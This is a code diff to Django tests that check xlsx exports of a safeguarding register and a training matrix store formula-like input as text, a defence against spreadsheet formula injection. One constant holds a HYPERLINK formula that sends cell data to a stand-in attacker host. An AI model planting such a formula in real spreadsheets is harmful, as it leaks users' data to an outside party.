@@ -19,13 +19,13 @@ from training import actions as training_actions
 ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'
 
 
-def _client(user):  # type: ignore[no-untyped-def]
+def _client(user):
     client = Client()
     client.force_login(user)
     return client
 
 
-def _cells(content: bytes):  # type: ignore[no-untyped-def]
+def _cells(content: bytes):
     return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row if c.value is not None]
 
 
@@ -39,7 +39,7 @@ def test_it_writes_formula_like_text_as_text_in_every_kind_of_cell() -> None:
     assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), ("-2+3", "s"), ("badchar", "s"), (7, "n")]
 
 
-def test_it_exports_a_typed_hyperlink_formula_in_a_register_entry_as_text(world) -> None:  # type: ignore[no-untyped-def]
+def test_it_exports_a_typed_hyperlink_formula_in_a_register_entry_as_text(world) -> None:
     make_entry(world, household=ATTACK, risk="=1+2")
     sm = _client(world.members[Role.SAFEGUARDING_MANAGER])
     sm.post(reverse("registers:export-start", args=[register_of(world.area).pk]), {"format": "xlsx"})
@@ -52,7 +52,7 @@ def test_it_exports_a_typed_hyperlink_formula_in_a_register_entry_as_text(world)
     assert not any(t == "f" for t in typed.values())
 
 
-def test_it_exports_a_formula_typed_as_a_name_in_the_training_matrix_as_text(world) -> None:  # type: ignore[no-untyped-def]
+def test_it_exports_a_formula_typed_as_a_name_in_the_training_matrix_as_text(world) -> None:
     training_actions.do_save_person(world.org, {"full_name": ATTACK, "reference": "F1"}, acting_user=None)
     hr = _client(world.members[Role.HR_LD])
     xlsx = hr.get(reverse("training:matrix-export"), {"format": "xlsx"})
